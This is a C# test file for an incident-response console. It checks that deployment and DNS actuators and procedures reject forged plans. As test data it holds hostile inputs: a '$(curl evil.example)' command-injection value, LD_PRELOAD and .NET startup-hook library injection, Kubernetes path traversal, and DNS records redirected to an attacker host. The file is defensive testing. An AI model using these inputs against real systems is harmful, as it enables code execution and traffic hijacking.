using System.Collections.Immutable;
using IncidentConsole.Domain.Actions;
using IncidentConsole.Domain.Fleet;
using IncidentConsole.Domain.Tests.Support;
using IncidentConsole.Infra.Readiness;
using IncidentConsole.Web.Tests.Api.Support;

namespace IncidentConsole.Web.Tests.Operations;

/// <summary>
/// Every actuator and procedure that the program registers, found and not named: each refuses what the configuration does not name. A new
/// one without a
/// forgery here, or that takes one, is red.
/// </summary>
public sealed class ScopeTests : IAsyncDisposable
{
    private static readonly FleetPolicy Policy = new World().Policy;
    private static readonly DeploymentState Deployed = new(3, ImmutableSortedDictionary<string, string>.Empty);

    // Nothing is started, and nothing of this is ever reached: what is foreign is refused before any call.
    private readonly WebApplication app = ConsoleApp.Build(TestConsole.Arguments(
    [
        "Postgres:ConnectionString=Host=127.0.0.1;Port=1", "Dns:Nameservers:0=127.0.0.1:1", "Dns:Resolvers:0=127.0.0.1:1", "Dns:Route53:HostedZoneId=Z1",
            "Dns:Route53:ServiceUrl=http://127.0.0.1:1", "Dns:Route53:AccessKey=a", "Dns:Route53:SecretKey=s",
        "Backends:Tenant=t", "Backends:UserPath:Url=http://127.0.0.1:1", "Backends:UserPath:Resolvers:0=127.0.0.1:1",
        .. new[] { "eu-west", "us-east" }.SelectMany(region => new[]
        {
            $"Kubernetes:Regions:{region}:Server=http://127.0.0.1:1", $"Redis:Regions:{region}:Connection=127.0.0.1:1",
                $"WarmStore:Regions:{region}:ConnectionString=Host=127.0.0.1;Port=1",
            $"Wal:Regions:{region}:Bucket=b", $"Wal:Regions:{region}:ServiceUrl=http://127.0.0.1:1",
                $"Backends:Regions:{region}:Url=http://127.0.0.1:1", $"Prometheus:Regions:{region}:Url=http://127.0.0.1:1",
        }),
    ]));

    private List<IActuator> Actuators => [.. app.Services.GetServices<IActuator>()];

    private List<IProcedure> Procedures => [.. app.Services.GetServices<IProcedure>()];

    [Fact]
    public void All_there_are_in_the_program_are_registered()
    {
        Assert.Equal(Of<IActuator>(), Actuators.Select(each => each.GetType().Name).Order(StringComparer.Ordinal));
        Assert.Equal(Of<IProcedure>(), Procedures.Select(each => each.GetType().Name).Order(StringComparer.Ordinal));

        static IEnumerable<string> Of<T>() => new[] { typeof(IActuator).Assembly, typeof(IDependency).Assembly }.SelectMany(assembly =>
            assembly.GetTypes())
            .Where(type => type is { IsClass: true, IsAbstract: false } && type.IsAssignableTo(typeof(T))).Select(type => type.Name)
                .Order(StringComparer.Ordinal);
    }

    [Fact]
    public async Task No_actuator_makes_a_change_of_what_the_configuration_does_not_name()
    {
        foreach (var actuator in Actuators)
        {
            var (own, forged) = Changes.Single(each => actuator.Handles(each.Own.Target));
            Assert.Null(actuator.Forbids(own)?.Sentence);
            foreach (var (what, change) in forged)
            {
                Assert.True(actuator.Forbids(change) is not null, $"{actuator.GetType().Name} takes a forged plan: {what}");
                // Asked once more just before the effect, and before anything is called: an unreachable other side would be "unavailable".
                var refused = await Record.ExceptionAsync(() =>
                    actuator.ApplyAsync(change, (_, _) => Task.CompletedTask, TestContext.Current.CancellationToken));
                Assert.True(refused is ActuatorRefusedException,
                    $"{actuator.GetType().Name} begins with a forged plan: {what}: {refused?.Message}");
            }
        }
    }

    [Fact]
    public void No_procedure_is_called_with_what_the_configuration_does_not_name()
    {
        foreach (var procedure in Procedures)
        {
            var own = Call(procedure, "eu-west");
            Assert.Null(procedure.Scope.Forbids(own, 7, Policy)?.Sentence);
            Refuses(own with { Region = new("mars") });
            Refuses(own with { Arguments = own.Arguments.Add("url", "http://evil.example") });
            foreach (var argument in procedure.Scope.Arguments)
            {
                Refuses(own with { Arguments = own.Arguments.SetItem(argument.Name, Forged(argument.Kind)) });
                if (!argument.IsOptional) Refuses(own with { Arguments = own.Arguments.Remove(argument.Name) });
            }

            void Refuses(ProcedureCall call) => Assert.True(procedure.Scope.Forbids(call, 7, Policy) is not null,
                $"{procedure.Name} takes a forged call: {call.Region} {string.Join(", ", call.Arguments)}");
        }
    }

    public ValueTask DisposeAsync() => app.DisposeAsync();

    /// <summary>For each kind of target: a change that is the console's, and what somebody could make of it in the database.</summary>
    private static IEnumerable<(Change Own, (string What, Change Change)[] Forged)> Changes
    {
        get
        {
            var (before, after) = (World.Weighted(50, 50), World.Weighted(0, 100));
            var own = new Change(new(Target.Dns, null, Policy.PublicName), before, after);
            var first = after.Records[0];
            yield return (own,
            [
                ("another name", own with { Target = own.Target with { Name = "bank.example.com" } }),
                ("a region's name", own with { Target = own.Target with { Region = World.EuWest } }),
                ("another destination", Dns(first with { Values = ["evil.example"] })),
                ("another destination beside", Dns(first with { Values = [.. first.Values, "evil.example"] })),
                ("one more record", own with { After = new DnsState([.. after.Records, first
                    with { SetIdentifier = "x", Values = ["evil.example"], Weight = 255 }]) }),
                ("a record of another name", Dns(first with { Name = "bank.example.com" })),
                ("a longer life", Dns(first with { TimeToLive = 604_800 })),
                ("another type", Dns(first with { Type = "TXT" })),
                ("another health check", Dns(first with { HealthCheckId = "evil" })),
                ("no records at all", own with { After = new DnsState([]) }),
                ("somebody else's record gone", own
                    with { Before = new DnsState([.. before.Records, first
                    with { SetIdentifier = "fallback", Values = ["static.example.com"] }]) }),
                ("the state of something else", own with { After = Deployed }),
            ]);
            Change Dns(DnsRecordSet record) => own with { After = new DnsState(after.Records.SetItem(0, record)) };

            var switched = new Change(new(Target.Deployment, World.EuWest, Policy.Deployment), Deployed,
                Deployed.With(Policy.DegradedModeVariable, "true"));
            yield return (switched,
            [
                ("another deployment", switched with { Target = switched.Target with { Name = "payments" } }),
                ("another namespace", switched with { Target = switched.Target with { Name = "../../kube-system/deployments/coredns" } }),
                ("another variable", switched with { After = Deployed.With("LD_PRELOAD", "/tmp/evil.so") }),
                ("one more variable", switched with { After = Deployed.With(Policy.DegradedModeVariable, "true")
                    .With("DOTNET_STARTUP_HOOKS", "/tmp/evil.dll") }),
                ("a variable taken away", switched with { Before = Deployed.With("PATH", "/bin"), After = Deployed }),
                ("another value", switched with { After = Deployed.With(Policy.DegradedModeVariable, "$(curl evil.example)") }),
                ("too many replicas", switched with { After = Deployed with { Replicas = 1_000_000 } }),
                ("the state of something else", switched with { After = after }),
            ]);
        }
    }

    private static ProcedureCall Call(IProcedure procedure, string region) =>
        new(procedure.Name, new(region), procedure.Scope.Arguments.ToImmutableSortedDictionary(argument => argument.Name, argument =>
            argument.Kind switch
        {
            ArgumentKind.Region => "us-east",
            ArgumentKind.Incident => "7",
            ArgumentKind.Moment => "2026-11-23T10:30:00.0000000Z",
            ArgumentKind.Count => "3",
            _ => "7-20261124T140104Z",
        }));

    private static string Forged(ArgumentKind kind) => kind switch
    {
        ArgumentKind.Region => "mars",
        ArgumentKind.Incident => "8",
        ArgumentKind.Moment => "never",
        ArgumentKind.Count => "1e9",
        _ => "../../elsewhere",
    };
}
